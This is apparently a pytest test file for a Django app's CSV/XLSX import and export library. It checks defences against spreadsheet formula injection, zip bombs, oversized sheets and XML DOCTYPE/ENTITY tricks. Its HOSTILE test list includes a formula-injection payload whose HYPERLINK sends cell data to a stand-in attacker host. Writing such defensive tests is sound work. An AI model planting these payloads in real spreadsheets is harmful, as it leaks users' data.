import csv
import io
import tracemalloc
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from pembinaan.lib import tabular
from pembinaan.lib.tabular import (
    TableError,
    check_xlsx,
    csv_cell,
    csv_lines,
    is_formula_like,
    list_export,
    parse_date,
    read_table,
    xlsx_bytes,
)
from tests.files import xlsx_by_hand, xlsx_row

# What a citizen may type into a complaint, each of which a spreadsheet would evaluate.
HOSTILE = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


def test_it_reads_a_utf8_csv_with_a_bom_and_lower_cases_the_header():
    header, rows = read_table(io.BytesIO("\ufeffNIP,Nama\n1,Siti Aisyah\n".encode()), max_rows=10)
    assert header == ["nip", "nama"] and rows == [["1", "Siti Aisyah"]]


def test_it_reads_semicolons_and_drops_trailing_empty_rows():
    header, rows = read_table(io.BytesIO(b"nip;nama\n1;A\n;\n\n"), max_rows=10)
    assert header == ["nip", "nama"] and rows == [["1", "A"]]


def test_it_refuses_csv_that_is_not_utf8():
    with pytest.raises(TableError, match="UTF-8"):
        read_table(io.BytesIO("nama\nS\xe9ri\n".encode("latin-1")), max_rows=10)


def test_it_refuses_an_empty_file():
    with pytest.raises(TableError, match="kosong"):
        read_table(io.BytesIO(b""), max_rows=10)


def test_it_reads_xlsx_by_content_whatever_the_name():
    workbook = Workbook()
    workbook.active.append(["nip", "tanggal"])
    workbook.active.append(["1", datetime(2020, 1, 2)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    header, rows = read_table(io.BytesIO(buffer.getvalue()), max_rows=10)
    assert header == ["nip", "tanggal"] and rows == [["1", datetime(2020, 1, 2)]]


def test_a_corrupt_xlsx_is_explained():
    with pytest.raises(TableError, match="rusak"):
        read_table(io.BytesIO(b"PK\x03\x04garbage"), max_rows=10)


def test_parse_date_takes_cells_and_text():
    formats = ["%d/%m/%Y", "%Y-%m-%d"]
    assert parse_date(datetime(2020, 1, 2, 0, 0), formats) == date(2020, 1, 2)
    assert parse_date("02/01/2020", formats) == date(2020, 1, 2)
    with pytest.raises(ValueError):
        parse_date("2 Januari", formats)


def test_csv_lines_start_with_a_bom_for_excel():
    text = "".join(csv_lines(["a", "b"], [[1, None]]))
    assert text == "\ufeffa,b\r\n1,\r\n"


def test_xlsx_bytes_writes_a_readable_sheet():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a"], [["x"]], title="Data"))).active
    assert sheet.title == "Data" and sheet["A2"].value == "x"


def test_a_list_exports_as_csv_or_xlsx_and_only_when_asked(rf, monkeypatch):
    rows = [["19660801 198803 1 001", "Siti", 3.5, date(2026, 1, 2)]]
    header = ["NIP", "Nama", "Skor", "Tanggal"]
    assert list_export(rf.get("/daftar/"), name="x", header=header, rows=lambda: 1 / 0) is None
    csv = list_export(
        rf.get("/daftar/?format=csv"), name="daftar", header=header, rows=lambda: rows
    )
    text = b"".join(csv.streaming_content).decode("utf-8-sig")
    assert text.splitlines() == [
        "NIP,Nama,Skor,Tanggal",
        '19660801 198803 1 001,Siti,"3,5",2026-01-02',  # the decimal comma, quoted
    ]
    assert csv["Content-Disposition"].startswith('attachment; filename="daftar-')
    xlsx = list_export(
        rf.get("/daftar/?format=xlsx"), name="daftar", header=header, rows=lambda: rows
    )
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert [c.value for c in sheet[2]][:2] == ["19660801 198803 1 001", "Siti"]


def test_an_xlsx_too_large_sends_the_user_back_with_the_reason(rf, monkeypatch):
    from django.contrib.messages.storage.fallback import FallbackStorage

    monkeypatch.setattr(tabular, "XLSX_MAX_ROWS", 2)
    request = rf.get("/daftar/?status=x&format=xlsx")
    request.session = {}
    request._messages = FallbackStorage(request)
    response = list_export(request, name="d", header=["a"], rows=lambda: ([n] for n in range(3)))
    assert response.status_code == 302 and response.url == "/daftar/?status=x"
    assert "paling banyak 2 baris" in [str(m) for m in request._messages][0]


def test_csv_lines_come_in_chunks_of_lines_and_join_to_every_row():
    from pembinaan.lib.tabular import CSV_LINES_PER_CHUNK

    rows = [[n, f"baris {n}"] for n in range(2 * CSV_LINES_PER_CHUNK + 1)]
    chunks = list(csv_lines(["n", "teks"], rows))
    assert len(chunks) == 3  # header and rows 0-498, then 499-998, then the rest
    lines = "".join(chunks).lstrip("\ufeff").splitlines()
    assert lines[0] == "n,teks" and lines[-1] == f"{len(rows) - 1},baris {len(rows) - 1}"
    assert len(lines) == len(rows) + 1


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_evaluate_is_formula_like(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("value", ["Siti", "1+1", " =x", "", None, -1, Decimal("-2.5"), -0.5])
def test_other_text_and_every_number_are_not(value):
    assert not is_formula_like(value)


def test_csv_cell_puts_an_apostrophe_before_formula_like_text_only():
    assert [csv_cell(v) for v in ["-1+2", "'ok", "Siti", -1, None]] == [
        "'-1+2",
        "''ok",
        "Siti",
        -1,
        "",
    ]


def read_csv_export(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks).removeprefix("\ufeff"))))


def test_a_csv_export_writes_formula_like_text_after_an_apostrophe():
    rows = read_csv_export(csv_lines(["isi", "angka"], [[text, -3] for text in HOSTILE]))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {r[1] for r in rows[1:]} == {"-3"}  # a negative number is left a number


def test_a_csv_export_reads_back_through_read_table_unchanged():
    texts = [*HOSTILE[:5], "'kutip", "''dua", "Siti", "-"]
    content = "".join(csv_lines(["isi"], [[t] for t in texts])).encode()
    _, rows = read_table(io.BytesIO(content), max_rows=20)
    assert [r[0] for r in rows] == texts


def test_an_xlsx_export_writes_formula_like_text_as_string_cells_and_numbers_as_numbers():
    rows = [[text, -3, Decimal("-2.5")] for text in HOSTILE]
    content = xlsx_bytes(["isi", "angka", "desimal"], rows, title="Masukan")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows(min_row=2))
    # XML reads a bare carriage return back as a line feed; the cell is text all the same.
    assert [c[0].value for c in cells] == [*HOSTILE[:5], "\nx"]
    assert {c[0].data_type for c in cells} == {"s"}
    assert {(c[1].value, c[1].data_type, c[2].value, c[2].data_type) for c in cells} == {
        (-3, "n", -2.5, "n")
    }
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_an_xlsx_export_keeps_a_decimals_places_as_the_cells_number_format():
    rows = [[Decimal("85.10"), Decimal("80.0"), Decimal("1234"), 2.5]]
    content = xlsx_bytes(["ikm", "persen", "orang", "float"], rows, title="Angka")
    cells = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert [c.value for c in cells] == [85.1, 80, 1234, 2.5]
    assert [c.number_format for c in cells] == ["#,##0.00", "#,##0.0", "#,##0", "General"]


def test_list_export_neutralises_both_formats(rf):
    for fmt in ("csv", "xlsx"):
        response = list_export(
            rf.get("/", {"format": fmt}), name="masukan", header=["isi"],
            rows=lambda: [[t] for t in HOSTILE],
        )  # fmt: skip
        if fmt == "csv":
            assert [r[0] for r in read_csv_export(
                c.decode() for c in response.streaming_content
            )[1:]] == ["'" + t for t in HOSTILE]  # fmt: skip
        else:
            sheet = load_workbook(io.BytesIO(response.content)).active
            assert {c.data_type for (c,) in sheet.iter_rows(min_row=2)} == {"s"}


def test_a_workbook_declaring_the_whole_sheet_is_refused_before_openpyxl_loads_it(monkeypatch):
    content = xlsx_by_hand(xlsx_row(1, "nip", "nama"), dimension="A1:XFD1048576")
    assert len(content) < 1600  # the 1.5 KB workbook of the issue

    def never(*args, **kwargs):
        raise AssertionError("openpyxl was asked to load the workbook")

    monkeypatch.setattr(tabular, "load_workbook", never)
    tracemalloc.start()
    try:
        with pytest.raises(TableError, match="menyatakan ukuran A1:XFD1048576"):
            read_table(io.BytesIO(content), max_rows=20_000)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 * 1024 * 1024


def test_a_workbook_with_more_rows_than_allowed_is_refused_without_a_dimension(monkeypatch):
    monkeypatch.setattr(tabular, "load_workbook", None)  # never reached
    rows = "".join(xlsx_row(n, str(n)) for n in range(1, 13))
    with pytest.raises(TableError, match="lebih dari 10 baris"):
        read_table(io.BytesIO(xlsx_by_hand(rows)), max_rows=10)


def test_a_row_wider_than_the_column_cap_is_refused():
    content = xlsx_by_hand(xlsx_row(1, *["x"] * (tabular.MAX_COLUMNS + 1)))
    with pytest.raises(TableError, match="lebih lebar"):
        check_xlsx(io.BytesIO(content), max_rows=10)


def test_a_zip_bomb_is_refused_by_its_unpacked_size():
    content = xlsx_by_hand(xlsx_row(1, "nip"), extra=b"\0" * (tabular.XLSX_MAX_UNCOMPRESSED + 1))
    assert len(content) < 100_000
    with pytest.raises(TableError, match="setelah dibuka"):
        check_xlsx(io.BytesIO(content), max_rows=10)


def test_a_workbook_within_the_bounds_is_read(monkeypatch):
    monkeypatch.setattr(tabular, "_SCAN_CHUNK", 7)  # tags cut by every chunk's end
    rows = "".join(xlsx_row(n, "a", "b") for n in range(1, 12))
    header, data = read_table(io.BytesIO(xlsx_by_hand(rows, dimension="A1:B11")), max_rows=10)
    assert header == ["a", "b"] and len(data) == 10


def test_a_sheet_without_a_dimension_is_read_no_wider_than_the_cap():
    content = xlsx_by_hand('<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>')
    header, _ = read_table(io.BytesIO(content), max_rows=10)
    assert len(header) == tabular.MAX_COLUMNS


def test_a_cell_over_the_csv_parsers_limit_is_a_readable_error_with_its_row():
    text = 'nama,unit\nSiti,"a\n' + "x" * 200_000 + "\n"  # a quote never closed
    with pytest.raises(TableError, match="Baris 2 .*tanda kutip"):
        read_table(io.BytesIO(text.encode()), max_rows=10)


def test_a_nul_byte_anywhere_in_a_csv_is_refused():
    text = "nama\n" + "Siti\n" * 2000 + "Bu\x00di\n"  # beyond the first 4 KB
    with pytest.raises(TableError, match="bukan CSV"):
        read_table(io.BytesIO(text.encode()), max_rows=5000)


def test_a_document_type_declaration_in_the_workbooks_xml_is_refused_in_indonesian():
    content = xlsx_by_hand(xlsx_row(1, "nip"))
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as copy:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY e "x">]>', 1)
            copy.writestr(member.filename, data)
    with pytest.raises(TableError, match="DOCTYPE/ENTITY"):
        read_table(io.BytesIO(buffer.getvalue()), max_rows=10)


def test_an_svg_picture_declaring_its_type_is_no_reason_to_refuse_a_workbook():
    svg = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'
    content = xlsx_by_hand(xlsx_row(1, "nip"), extra=svg)
    assert read_table(io.BytesIO(content), max_rows=10)[0][0] == "nip"


def test_a_sheet_cut_short_is_a_broken_file_not_a_crash():
    buffer = io.BytesIO()
    content = xlsx_by_hand(xlsx_row(1, "nip") + xlsx_row(2, "1"))
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as copy:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = data[: data.index(b'<row r="2">') + 20]
            copy.writestr(member.filename, data)
    with pytest.raises(TableError, match="rusak"):
        read_table(io.BytesIO(buffer.getvalue()), max_rows=10)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_csv_line_with_more_separators_than_the_column_cap_is_refused_before_parsing(
    delimiter,
):
    wide = delimiter * tabular.MAX_COLUMNS
    content = f"nip{delimiter}nama\n1{delimiter}a\n{wide}\n".encode()
    with pytest.raises(tabular.TableError, match="Baris 3 berisi lebih dari 100 kolom"):
        tabular.read_table(io.BytesIO(content), max_rows=10)


def test_a_csv_as_wide_as_the_cap_is_read():
    content = ",".join(f"k{i}" for i in range(tabular.MAX_COLUMNS)).encode()
    header, _ = tabular.read_table(io.BytesIO(content + b"\n"), max_rows=10)
    assert len(header) == tabular.MAX_COLUMNS


def test_a_second_sheet_has_its_own_heading_bold_frozen_header_and_text_stays_text():
    first = tabular.XlsxSheet(["Nama", "Nilai"], title="Satu", heading=["Judul satu"])
    second = first.add_sheet(["Kode", "Bukti"], title="Dua", heading=["Judul dua", "Baris dua"])
    first.append(["A", Decimal("85.10")])
    second.append(["K.01", HOSTILE[0]])
    first.append(["B", 3])  # rows go to either sheet in any order
    book = load_workbook(io.BytesIO(first.getvalue()))
    one, two = book.worksheets
    assert [list(r) for r in one.iter_rows(values_only=True)] == [
        ["Judul satu", None], ["Nama", "Nilai"], ["A", 85.1], ["B", 3],
    ]  # fmt: skip
    assert [list(r) for r in two.iter_rows(values_only=True)] == [
        ["Judul dua", None], ["Baris dua", None], ["Kode", "Bukti"], ["K.01", HOSTILE[0]],
    ]  # fmt: skip
    assert (one.freeze_panes, two.freeze_panes) == ("A3", "A4")
    assert one["A2"].font.b and two["A3"].font.b and not two["A4"].font.b
    assert two["B4"].data_type == "s"  # a formula-like text is a string cell, never evaluated
